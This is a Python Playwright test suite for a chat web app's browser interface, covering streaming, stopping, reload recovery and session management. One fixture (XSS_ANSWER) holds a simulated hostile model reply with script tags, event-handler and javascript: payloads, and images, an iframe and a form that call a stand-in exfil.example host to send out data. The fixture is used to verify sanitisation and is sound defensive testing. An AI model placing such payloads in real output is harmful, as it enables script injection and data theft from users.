"""Chat in the browser: a streamed answer, Stop, a reload mid-answer that loses nothing,
sessions (open, delete), and a model answer full of XSS and exfiltration attempts that
renders as text and runs or fetches nothing."""

from __future__ import annotations

import asyncio
import json
from pathlib import Path

from playwright.async_api import Browser, Locator, expect

from tests.conftest import RunningApi
from tests.fakes.openai_server import FakeOpenAI, Reply
from tests.web.conftest import WAIT_MS, Web, open_web

XSS_ANSWER = """Here is the report.

<script>window.__pwned = 'script'</script>
<img src=x onerror="window.__pwned='onerror'">
<svg onload="window.__pwned='svg'"><script>window.__pwned='svg-script'</script></svg>
<a href="javascript:window.__pwned='href'">raw link</a>

[click me](javascript:window.__pwned='md-link') and
[data link](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==) and [a good link](https://example.org/docs).

![exfil](http://exfil.example/collect?q=secret)
![also](//exfil.example/pixel.png)

<iframe src="http://exfil.example/frame"></iframe>
<form action="http://exfil.example/"><button>go</button></form>
<style>body { background: url(http://exfil.example/bg) }</style>

**done**
"""


def transcript(web: Web) -> Locator:
    return web.page.get_by_role("log", name="Conversation")


async def send(web: Web, text: str) -> None:
    await web.page.get_by_label("Message", exact=True).fill(text)
    await web.page.get_by_role("button", name="Send").click()


async def test_chat_streams_an_answer_and_lists_the_session(web: Web, llm: FakeOpenAI) -> None:
    page = web.page
    await web.sign_in("chat-ada")
    await send(web, "hello from the browser")
    answer = transcript(web).get_by_role("article", name="Assistant answer").last
    await expect(answer).to_contain_text("Echo: hello from the browser")
    await expect(page.get_by_role("status")).to_have_text("Answer complete.")
    await expect(page.get_by_role("button", name="Send")).to_be_enabled()
    await expect(page.get_by_role("button", name="Stop")).to_be_disabled()
    # the session is in the list and in the URL; a second message continues it
    assert "?session=" in page.url
    sessions = page.get_by_role("complementary", name="Sessions")
    await expect(sessions.get_by_role("link", name="hello from the browser")).to_be_visible()
    await send(web, "and again")
    await expect(transcript(web).get_by_role("article", name="Assistant answer")).to_have_count(2)
    await expect(transcript(web).get_by_role("article", name="Assistant answer").last).to_contain_text(
        "Echo: and again"
    )
    await expect(sessions.get_by_role("listitem")).to_have_count(1)
    # reopening the session shows its transcript
    await web.goto("/chat")
    await expect(page.get_by_text("Ask anything.")).to_be_visible()
    await sessions.get_by_role("link", name="hello from the browser").click()
    await expect(transcript(web).get_by_role("article", name="Your message")).to_have_count(2)
    await web.check_page("chat")
    # rename it (a modal with a labelled field), then delete it
    await sessions.get_by_role("button", name="Rename session hello from the browser").click()
    dialog = page.get_by_role("dialog", name="Rename hello from the browser")
    await dialog.get_by_label("Title").fill("Greetings")
    await web.check_page("chat-rename")
    await dialog.get_by_role("button", name="Rename").click()
    await expect(sessions.get_by_role("link", name="Greetings")).to_be_visible()
    await sessions.get_by_role("button", name="Delete session Greetings").click()
    await page.wait_for_url(web.url("/chat"))
    await expect(sessions.get_by_text("No sessions yet.")).to_be_visible()
    assert not web.page_errors and not web.dialogs


async def test_stop_cancels_the_running_turn(web: Web, llm: FakeOpenAI) -> None:
    page = web.page
    await web.sign_in("chat-stopper")
    llm.hold()
    await send(web, "a long story please")
    await expect(page.get_by_role("button", name="Stop")).to_be_enabled()
    await asyncio.to_thread(llm.wait_for_request, WAIT_MS / 1000)
    await page.get_by_role("button", name="Stop").click()
    answer = transcript(web).get_by_role("article", name="Assistant answer").last
    await expect(answer).to_contain_text("Stopped.")
    await expect(page.get_by_role("button", name="Send")).to_be_enabled()
    llm.release()


async def test_a_reload_mid_answer_loses_nothing(web: Web, llm: FakeOpenAI) -> None:
    page = web.page
    await web.sign_in("chat-reloader")
    llm.hold()
    await send(web, "one two three four five six")
    answer = transcript(web).get_by_role("article", name="Assistant answer").last
    await expect(answer).to_contain_text("Echo")  # the first piece streamed, the rest is held
    pending = await page.evaluate("() => sessionStorage.getItem('keel.chat.pending')")
    assert pending and json.loads(pending)["last"], pending
    # the browser keeps only ids and text: the session is the HttpOnly cookie, out of the page's reach
    cookies = {c["name"]: c for c in await web.context.cookies()}
    assert cookies["keel_session"]["httpOnly"]
    assert cookies["keel_session"]["value"] not in pending
    assert "keel_session" not in await page.evaluate("() => document.cookie")
    storage = await page.evaluate("() => JSON.stringify(localStorage)")
    assert storage == "{}"

    await page.reload(wait_until="domcontentloaded")
    answer = transcript(web).get_by_role("article", name="Assistant answer").last
    await expect(answer).to_contain_text("Echo")
    await expect(page.get_by_role("button", name="Stop")).to_be_enabled()
    llm.release()
    await expect(answer).to_have_text("KeelEcho: one two three four five six")
    await expect(page.get_by_role("status")).to_have_text("Answer complete.")
    assert await page.evaluate("() => sessionStorage.getItem('keel.chat.pending')") is None
    # exactly one answer, no text repeated
    await expect(transcript(web).get_by_role("article", name="Assistant answer")).to_have_count(1)


async def test_a_lost_connection_resumes(web: Web, llm: FakeOpenAI) -> None:
    await web.sign_in("chat-offline")
    llm.hold()
    await send(web, "alpha beta gamma")
    answer = transcript(web).get_by_role("article", name="Assistant answer").last
    await expect(answer).to_contain_text("Echo")
    await web.context.set_offline(True)
    await asyncio.sleep(1)
    llm.release()
    await asyncio.sleep(1)
    await web.context.set_offline(False)
    await expect(answer).to_have_text("KeelEcho: alpha beta gamma")


async def test_a_hostile_answer_renders_as_text_and_runs_nothing(
    browser: Browser, keel: RunningApi, web: Web, llm: FakeOpenAI
) -> None:
    page = web.page
    await web.sign_in("chat-xss")
    llm.enqueue(Reply(XSS_ANSWER))
    await send(web, "summarise the report")
    answer = transcript(web).get_by_role("article", name="Assistant answer").last
    await expect(answer).to_contain_text("done")
    await expect(page.get_by_role("status")).to_have_text("Answer complete.")
    await _assert_inert(web)
    # the raw HTML shows as text
    await expect(answer).to_contain_text("<script>window.__pwned = 'script'</script>")
    # dangerous links lose their target; safe ones get rel=noopener
    await expect(answer.get_by_role("link", name="a good link")).to_have_attribute(
        "rel", "noopener noreferrer nofollow"
    )
    hrefs = await answer.locator("a[href]").evaluate_all("els => els.map(e => e.getAttribute('href'))")
    assert hrefs == ["https://example.org/docs"], hrefs

    # the sanitiser alone stops it too: the same session in a page without the CSP
    cookies = await web.context.cookies()
    context = await browser.new_context(bypass_csp=True)
    try:
        await context.add_cookies(cookies)  # type: ignore[arg-type]
        bare = await context.new_page()
        seen: list[str] = []
        dialogs: list[str] = []
        context.on("request", lambda r: seen.append(r.url))
        bare.on("dialog", lambda d: dialogs.append(d.message))
        await bare.goto(page.url, wait_until="domcontentloaded")
        again = bare.get_by_role("log", name="Conversation").get_by_role("article", name="Assistant answer")
        await expect(again.last).to_contain_text("done")
        await asyncio.sleep(1)
        assert await bare.evaluate("() => window.__pwned") is None
        assert not dialogs
        assert [u for u in seen if not u.startswith(keel.base_url) and not u.startswith("data:")] == []
    finally:
        await context.close()


async def _assert_inert(web: Web) -> None:
    await asyncio.sleep(1)  # give a payload every chance to fire
    assert await web.page.evaluate("() => window.__pwned") is None
    assert not web.dialogs
    assert web.off_origin_requests() == [], web.off_origin_requests()


async def test_the_chat_page_works_on_a_phone(
    browser: Browser, keel: RunningApi, shots: Path, llm: FakeOpenAI
) -> None:
    web, context = await open_web(browser, keel, shots)
    try:
        await web.page.set_viewport_size({"width": 390, "height": 844})
        await web.sign_in("chat-phone")
        await send(web, "small screen")
        await expect(transcript(web).get_by_role("article", name="Assistant answer").last).to_contain_text(
            "Echo: small screen"
        )
        await web.no_sideways_scroll("chat on a phone")
    finally:
        await context.close()
